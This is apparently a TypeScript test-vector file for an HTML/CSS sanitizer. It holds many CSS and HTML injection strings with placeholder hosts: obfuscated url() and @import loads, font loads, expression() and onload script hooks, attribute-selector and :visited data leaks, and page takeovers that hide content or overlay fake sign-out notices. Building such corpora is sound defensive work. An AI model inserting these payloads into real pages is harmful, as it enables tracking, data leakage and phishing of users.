import { crossed, inQuotes, type Vector } from './marks.ts';

const properties = [
  'background',
  'background-image',
  'list-style',
  'list-style-image',
  'border-image',
  'border-image-source',
  'cursor',
  'content',
  'mask',
  'mask-image',
  '-webkit-mask-image',
  '-webkit-mask-box-image',
  'mask-border-source',
  'clip-path',
  'filter',
  'backdrop-filter',
  'shape-outside',
  'offset-path',
  'fill',
  'stroke',
  'marker-start',
  'behavior',
  '-moz-binding',
  'src',
];

/** Ways to write an address in CSS. */
const notations = [
  'url({u})',
  "url('{u}')",
  'URL( {u} )',
  'u\\72l({u})',
  '\\75\\72\\6c({u})',
  '\\000075rl({u})',
  'ur\\l({u})',
  'u\\\nrl({u})',
  'url(\\68ttps\\3a//{host}/other-{id})',
  'url({u}',
  "image-set('{u}' 1x)",
  "image-set(url({u}) 1x, '{u}?2' 2x)",
  '-webkit-image-set(url({u}) 1x)',
  'cross-fade(url({u}), url({u}), 50%)',
  '-webkit-cross-fade(url({u}), url({u}), 50%)',
  "image('{u}')",
  "src('{u}')",
  'var(--no, url({u}))',
  'var(--a);--a:url({u})',
  'var(--b);--a:url({u});--b:var(--a)',
  'attr(data-a type(<url>), url({u}))',
  'if(else: url({u}))',
  'element(#a), url({u})',
  "paint(x), url('//{host}/other-{id}')",
  'red url({u}) !important',
  'url(data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage%20href=%22{u}%22/%3E%3C/svg%3E)',
];

const rule = (declarations: string) => `p,rect{${declarations}}p:before{content:"x";${declarations}}`;
const asAttribute = (declarations: string) =>
  `<p data-a="{u}" style="${inQuotes(declarations)};width:9px;height:9px;display:list-item">x</p>`;
const asSheet = (declarations: string) => `<style>${rule(declarations)}</style><p>x</p>`;

export const declarations: readonly Vector[] = [
  ...properties.flatMap((name) => [asAttribute(`${name}:url({u})`), asSheet(`${name}:url({u})`)]),
  ...notations.flatMap((value) => [
    asAttribute(`background:${value}`),
    asSheet(`background:${value}`),
    `<svg><style>${rule(`background:${value}`)}</style></svg><p>x</p>`,
  ]),
  '<p style="width:expression({js})">x</p>',
  '<p style="background:&#117;rl({u})">entity</p>',
  '<p style="background:url(&#x27;{u}&#x27;)">entity</p>',
  '<p style="/*&quot;*/background/**/:/**/url({u})/*">comments</p>',
  '<p style="\\62 ackground:url({u})">escaped name</p>',
  '<p style="color:red\\;background:url({u})">x</p>',
  '<p style="x:}p{background:url({u})}">x</p>',
  '<p STYLE=background:url({u})>x</p>',
  '<style>p{--a:{u}}p{background:var(--a)}</style><p>x</p>',
  '<style>@property --a{syntax:"<url>";inherits:true;initial-value:url({u})}p{background:var(--a)}</style><p>x</p>',
  '<style>p[lang^="a"]{background:url({u})}</style><p lang="abc">a guess at a time</p>',
  '<style>a:visited{background:url({u})}a{background:url({u})}</style><a href="{u}">visited</a>',
  '<style>p::selection{background:url({u})}p::first-line{background:url({u})}</style><p>x</p>',
];

const everywhere = [
  '<style>{v}</style><p>x</p>',
  '<svg><style>{v}</style></svg><p>x</p>',
  '<div><style media=all>{v}</style></div><p>x</p>',
];

export const sheets: readonly Vector[] = [
  ...crossed(everywhere, [
    '@import url({u});',
    '@import "{u}";',
    '@IMPORT/**/"{u}";',
    '@\\69mport "{u}";',
    '@import url({u}) layer(a) supports(display:block) screen;',
    '@charset "utf-8";@import "//{host}/other-{id}";',
    '@namespace x url({u});',
    '@media all{p{background:url({u})}}',
    '@supports (display:block){p{background:url({u})}}',
    '@layer a{p{background:url({u})}}',
    '@container (min-width:0){p{background:url({u})}}',
    '@scope (body){p{background:url({u})}}',
    '@starting-style{p{background:url({u})}}',
    '@keyframes k{from{background:url({u})}to{background:url({u}?2)}}p{animation:k 9s}',
    '@page{background:url({u})}',
    '@counter-style c{system:cyclic;symbols:url({u})}p{display:list-item;list-style:c}',
    '@view-transition{navigation:auto}p{& b{background:url({u})}background:url({u})}',
    '<!-- @import "{u}"; -->p{background:url({u})}',
    '}@import "{u}";{p{background:url({u})}',
  ]),
  '<link rel=stylesheet href="{u}">',
  '<link rel="alternate stylesheet" title=a href="{u}">',
  '<link rel=stylesheet href="data:text/css,@import%20url({u});">',
  '<LINK REL="&#115;tylesheet" HREF="//{host}/other-{id}">',
  '<?xml-stylesheet href="{u}"?><p>x</p>',
  '<style type="text/css" src="{u}">@import "{u}";',
  '<style></style ><style>@import "{u}"</style/x><p>x</p>',
];

export const fonts: readonly Vector[] = [
  ...crossed(everywhere, [
    '@font-face{font-family:x;src:url({u})}p{font-family:x}',
    '@font-face{font-family:x;src:local(none),url({u}) format("woff2") tech(variations)}p{font-family:x}',
    '@font-face{font-family:x;src:u\\72l({u})}p{font:1em x}',
    '@font-face{font-family:x;src:url({u});unicode-range:U+0-10FFFF}p{font-family:x}',
    '@font-palette-values --a{font-family:x;base-palette:url({u})}@font-face{font-family:x;src:url("{u}")}*{font-family:x}',
  ]),
  '<svg><font-face font-family=x><font-face-src><font-face-uri href="{u}"/></font-face-src></font-face><text font-family=x>x</text></svg>',
  '<font face="x;src:url({u})" style="font-family:url({u})">x</font>',
];

/** Styles that hide, cover or change the page itself. */
export const takeovers: readonly Vector[] = [
  '<style>body{display:none}</style>',
  '<style>body{display:none!important}html{visibility:hidden!important}</style>',
  '<body style="display:none">',
  '<body hidden>',
  '<html style="display:none"><p>x</p>',
  '<p style="position:fixed;inset:0;background:#fff;z-index:9">cover</p>',
  '<style>*{font-size:0!important;color:#fff!important}</style>',
  '<p style="position:absolute;inset-block-start:-900px">elsewhere</p>',
  '<style>p:after{content:"You are signed out. Call 1-800";position:fixed;inset:0}</style><p>x</p>',
  '<style>::-webkit-scrollbar{background:url({u})}</style>',
  '<body dir=rtl onload={js} bgcolor=black text=black link=black background="{u}">',
  '<dialog open><p>Session over</p></dialog><p popover>x</p><style>[popover]{display:block;background:url({u})}</style>',
  '<title>Sign in</title><meta name=color-scheme content=dark><meta name=theme-color content=red><meta http-equiv=content-security-policy content="default-src *">',
  '<meta http-equiv=content-security-policy-report-only content="default-src \'none\'; report-uri {u}"><img src="x">',
  '<meta http-equiv=set-cookie content="a=b"><meta http-equiv=default-style content=a><meta name=referrer content=unsafe-url>',
];
